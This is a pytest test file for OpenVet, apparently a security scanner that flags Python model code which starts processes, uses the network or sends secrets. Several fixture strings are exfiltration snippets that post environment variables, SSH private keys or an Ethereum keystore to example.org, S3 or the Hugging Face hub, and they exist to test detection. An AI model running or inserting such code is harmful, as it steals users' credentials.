"""What keeps a source from being quiet, and secrets that are sent (``python/sends-secrets``)."""

import pytest

from openvet.checks._check import Context
from openvet.checks.hub import custom_code, python_code
from openvet.checks.python import sends_secrets
from openvet.checks.python._quiet import why_loud
from openvet.core.coverage import Coverage
from openvet.core.finding import Finding
from openvet.core.limits import DEFAULT_LIMITS
from openvet.core.location import Location
from openvet.core.rule import Severity
from openvet.formats.python import read_source
from openvet.inventory.component import Component, Inventory
from openvet.testing.forge_python import QUIET, SECRETS


def part(name: str, text: str) -> Component:
    program = read_source(text, Location(name), DEFAULT_LIMITS)
    return Component(name, name, len(text), ("python",), Coverage.READ, programs=(program,))


def context(rule: object, *parts: Component) -> Context:
    return Context(Inventory(parts), rule.RULE)  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("import torch\nclass A(torch.nn.Module):\n    def forward(self, x): return x\n", ""),
        ("import torch\ndef convert(p): return torch.load(p, weights_only=False)\n", ""),
        ("def save(p):\n    with open(p, 'w') as f: f.write('x')\n", ""),
        ("from .helper import go\nclass A: pass\n", ""),
        ("import os\ndef build(): os.system('make')\n", "line 2 starts a process (os.system)"),
        (
            "import requests\nclass A:\n    def forward(self, u): return requests.get('https://x.example.org/' + u)\n",
            "line 3 uses the network (requests.get)",
        ),
        ("import nobody_knows\n", ""),
        ("import beside\n", ""),
        ("eval('(' * 10\n", "it could not be read to its end"),
    ],
)
def test_why_a_source_is_loud(text: str, why: str) -> None:
    found = why_loud(
        context(
            python_code, part("m.py", text), part("helper.py", "x = 1\n"), part("beside/__init__.py", ""),
            part("modeling_x.py", "x = 1\n"),
        )
    )  # fmt: skip
    assert found["m.py"] == why


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("import os\ndef build(): os.system('make')\n", ""),
        ("import nobody_knows\n", ""),
        ("import os\nclass X: pass\nos.system('make')\n", "line 3 starts a process (os.system)"),
    ],
)
def test_what_no_loader_takes_is_for_people_to_call(text: str, why: str) -> None:
    assert why_loud(context(python_code, part("m.py", text)))["m.py"] == why


def test_what_a_loader_takes_imports_what_is_known() -> None:
    found = why_loud(context(python_code, part("modeling_m.py", "import nobody_knows\n")))
    assert found["modeling_m.py"] == "it imports nobody_knows, a package that OpenVet does not know"


def test_what_a_neighbour_does_makes_it_loud() -> None:
    found = why_loud(
        context(
            python_code,
            part("m.py", "from .h import go\ngo()\n"),
            part("h.py", "import os\ndef go(): os.system('x')\n"),
            part("modeling_x.py", "from .m import go\n"),
        )
    )
    assert (found["m.py"], found["h.py"]) == ("", "line 2 starts a process (os.system)")


def test_custom_code_is_a_note_where_all_code_only_defines() -> None:
    config = Component("config.json", "config.json", 1, ("json",), Coverage.READ,
                       document={"auto_map": {"AutoModel": "modeling.A"}})  # fmt: skip

    def said(*parts: Component) -> list[Severity]:
        return [each.severity for each in custom_code.check(context(custom_code, config, *parts))]

    assert said(part("modeling.py", "class A: pass\n")) == [Severity.NOTE]
    assert said(part("modeling.py", "class A: pass\n"), part("x.py", "import os\nos.system('echo hello')\n")) == [
        Severity.MEDIUM
    ]
    assert said() == [Severity.MEDIUM]


def secrets(text: str) -> list[Finding]:
    return list(sends_secrets.check(context(sends_secrets, part("m.py", text))))


@pytest.mark.parametrize("name", sorted(SECRETS))
def test_a_secret_that_is_sent(name: str) -> None:
    assert [each.severity for each in secrets(SECRETS[name])] == [Severity.HIGH]


@pytest.mark.parametrize(
    "text",
    [
        "import os, requests\ndef helper(): requests.post('https://example.org', json=dict(os.environ))\n",
        "import os, requests\ndef helper():\n    p = os.path.expanduser('~/.ssh/id_rsa')\n    requests.post('https://example.org', data=open(p).read())\n",
        "import os, glob, boto3\ndef helper():\n    for p in glob.glob(os.path.expanduser('~/.ssh/*')):\n        boto3.client('s3').upload_file(p, 'b', 'x')\n",
        "import os\nfrom huggingface_hub import HfApi\ndef helper(): HfApi().upload_folder(folder_path=os.path.expanduser('~/.ssh'), repo_id='x/y')\n",
        "import requests\ndef helper():\n    with open('/root/.ethereum/keystore/x') as f:\n        requests.post('https://example.org', headers={'X': f.read()})\n",
    ],
)
def test_what_is_sent_by_a_function_that_nothing_calls(text: str) -> None:
    assert [each.severity for each in secrets(text)] == [Severity.HIGH]


@pytest.mark.parametrize(
    "text",
    [
        QUIET["its-own-service"],
        "import os, json\nclass A:\n    def __init__(self, c): print(json.dumps(dict(os.environ)))\n",
        "import os, requests\nclass A:\n    def __init__(self, c): requests.get(os.environ['MIRROR'])\n",
        "import os, requests\ndef helper(): requests.post('https://example.org', json={'key': os.environ['API_KEY']})\n",
        "import requests\ndef helper(p): requests.post('https://example.org', data=open(p).read())\n",
        "import paramiko\ndef helper(): paramiko.SSHClient().connect('x', key_filename='~/.ssh/id_rsa')\n",
    ],
)
def test_a_secret_that_stays_or_is_asked_for(text: str) -> None:
    assert secrets(text) == []
